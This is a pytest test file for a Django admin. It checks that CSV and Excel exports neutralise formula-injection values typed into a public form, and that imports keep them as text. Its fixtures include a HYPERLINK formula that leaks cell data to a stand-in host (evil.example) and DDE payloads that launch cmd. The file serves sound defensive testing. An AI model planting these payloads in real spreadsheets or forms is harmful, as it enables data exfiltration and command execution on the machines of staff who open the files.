"""Formula injection (issue 6, item 2): what companies type never runs in staff's spreadsheets.

A company name such as ``=HYPERLINK(...)`` typed into the public form used to come out of the
admin's CSV and Excel exports as a live formula. Every export of every resource now writes
such cells as text (a leading ``'``, OWASP's rule), Excel cells are text cells, and imported
text stays text.
"""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partners.models import Company
from partners.resources import CompanyResource, ContactResource, PartnerOrganisationResource
from partners.spreadsheets import spreadsheet_safe, spreadsheet_unescape
from tests.factories import CompanyFactory, ContactFactory, PartnerOrganisationFactory

CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the admin offers CSV first, then XLSX

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
ATTACKS = [
    HYPERLINK,
    DDE,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, url_name: str, resource_class, fmt: str):
    """Export every field of the admin's only resource, as staff do from the export page."""
    fields = resource_class().get_export_order()
    response = client.post(
        reverse(url_name),
        {
            "format": fmt,
            "resource": "0",
            **{f"{resource_class.__name__.lower()}_{name}": "on" for name in fields},
        },
    )
    assert response.status_code == 200
    return response


def _csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _xlsx_rows(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


# --- The rule --------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_spreadsheet_safe_prefixes_formula_like_text_and_unescape_undoes_it(attack):
    escaped = spreadsheet_safe(attack)

    assert escaped == "'" + attack
    assert spreadsheet_unescape(escaped) == attack


@pytest.mark.parametrize(
    "value",
    ["+21671234567", "+216 71 234 567", "-12.5", "42", "Alpha Pharma SA", "", "'=1+1", None, 7],
)
def test_spreadsheet_safe_leaves_numbers_phones_and_plain_text_alone(value):
    assert spreadsheet_safe(value) == value


def test_spreadsheet_unescape_keeps_text_that_was_not_escaped():
    assert [spreadsheet_unescape(text) for text in ["=1+1", "'quoted'", "'42"]] == [
        "=1+1",
        "'quoted'",
        "'42",
    ]


# --- Exports through the admin -----------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_company_csv_export_writes_formula_cells_as_text(client, staff, attack):
    CompanyFactory(tax_id="1234567A", legal_name=attack, city=DDE)
    client.force_login(staff)

    response = _export(client, "admin:partners_company_export", CompanyResource, CSV_FORMAT)

    [row] = _csv_rows(response)
    assert (row["legal_name"], row["city"]) == ("'" + attack, "'" + DDE)
    assert row["tax_id"] == "1234567A"


def test_company_xlsx_export_writes_text_cells_never_formulas(client, staff):
    CompanyFactory(tax_id="1234567A", legal_name=HYPERLINK, city=DDE, description="@SUM(A1)")
    client.force_login(staff)

    response = _export(client, "admin:partners_company_export", CompanyResource, XLSX_FORMAT)

    [row] = _xlsx_rows(response)
    for column, typed in [("legal_name", HYPERLINK), ("city", DDE), ("description", "@SUM(A1)")]:
        assert row[column].data_type != "f"
        assert row[column].data_type == "s"
        assert row[column].value == "'" + typed
    assert (row["tax_id"].value, row["tax_id"].data_type) == ("1234567A", "s")


def test_contact_exports_escape_formulas_and_keep_e164_phones(client, staff):
    company = CompanyFactory(tax_id="1234567A")
    ContactFactory(
        company=company,
        first_name=HYPERLINK,
        last_name="-1+1",
        role="@SUM(A1)",
        email="amira@alpha.example",
        phone="+21671234567",
    )
    client.force_login(staff)

    csv_response = _export(client, "admin:partners_contact_export", ContactResource, CSV_FORMAT)
    xlsx_response = _export(client, "admin:partners_contact_export", ContactResource, XLSX_FORMAT)

    [csv_row] = _csv_rows(csv_response)
    [xlsx_row] = _xlsx_rows(xlsx_response)
    expected = {
        "first_name": "'" + HYPERLINK,
        "last_name": "'-1+1",
        "role": "'@SUM(A1)",
        "phone": "+21671234567",
        "company_tax_id": "1234567A",
    }
    assert {column: csv_row[column] for column in expected} == expected
    assert {column: xlsx_row[column].value for column in expected} == expected
    assert [cell.data_type for cell in xlsx_row.values() if cell.value] == ["s"] * len(
        [cell for cell in xlsx_row.values() if cell.value]
    )


def test_partner_exports_escape_formulas(client, staff):
    PartnerOrganisationFactory(name="=1+1", city=DDE, capabilities="+cmd|' /C calc'!A0")
    client.force_login(staff)

    csv_response = _export(
        client, "admin:partners_partnerorganisation_export", PartnerOrganisationResource, CSV_FORMAT
    )
    xlsx_response = _export(
        client,
        "admin:partners_partnerorganisation_export",
        PartnerOrganisationResource,
        XLSX_FORMAT,
    )

    [csv_row] = _csv_rows(csv_response)
    [xlsx_row] = _xlsx_rows(xlsx_response)
    expected = {"name": "'=1+1", "city": "'" + DDE, "capabilities": "'+cmd|' /C calc'!A0"}
    assert {column: csv_row[column] for column in expected} == expected
    assert {column: xlsx_row[column].value for column in expected} == expected
    assert {xlsx_row[column].data_type for column in expected} == {"s"}


# --- Imports keep text as text -----------------------------------------------------------------


def _import_through_admin(client, name: str, content: bytes, fmt: str):
    preview = client.post(
        reverse("admin:partners_company_import"),
        {"resource": "0", "format": fmt, "import_file": SimpleUploadedFile(name, content)},
    )
    assert preview.status_code == 200
    assert "confirm_form" in preview.context, preview.content.decode()
    confirm = client.post(
        reverse("admin:partners_company_process_import"), preview.context["confirm_form"].initial
    )
    assert confirm.status_code == 302


def test_company_csv_import_stores_a_formula_literally(client, staff):
    client.force_login(staff)

    _import_through_admin(
        client, "companies.csv", b'tax_id,legal_name,city\n1234567A,=1+1,"=SUM(A1:A2)"\n', "0"
    )

    company = Company.objects.get()
    assert (company.legal_name, company.city) == ("=1+1", "=SUM(A1:A2)")


def test_company_xlsx_import_stores_formula_cells_and_text_cells_literally(client, staff):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["tax_id", "legal_name", "city"])
    sheet.append(["1234567A", "=1+1", "Tunis"])  # openpyxl writes "=1+1" as a formula
    sheet.append(["2345678B", "Beta SA", "=A1"])
    sheet["B3"].data_type = "s"
    assert (sheet["B2"].data_type, sheet["C3"].data_type) == ("f", "f")
    stream = io.BytesIO()
    workbook.save(stream)
    client.force_login(staff)

    _import_through_admin(client, "companies.xlsx", stream.getvalue(), XLSX_FORMAT)

    assert sorted(Company.objects.values_list("tax_id", "legal_name", "city")) == [
        ("1234567A", "=1+1", "Tunis"),
        ("2345678B", "Beta SA", "=A1"),
    ]


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
def test_company_export_then_import_changes_nothing(client, staff, fmt):
    CompanyFactory(tax_id="1234567A", legal_name=HYPERLINK, city="-", description="@home")
    client.force_login(staff)
    exported = _export(client, "admin:partners_company_export", CompanyResource, fmt)

    preview = client.post(
        reverse("admin:partners_company_import"),
        {
            "resource": "0",
            "format": fmt,
            "import_file": SimpleUploadedFile("companies", exported.content),
        },
    )

    assert preview.context["result"].totals["skip"] == 1
    company = Company.objects.get()
    assert (company.legal_name, company.city, company.description) == (
        HYPERLINK,
        "-",
        "@home",
    )
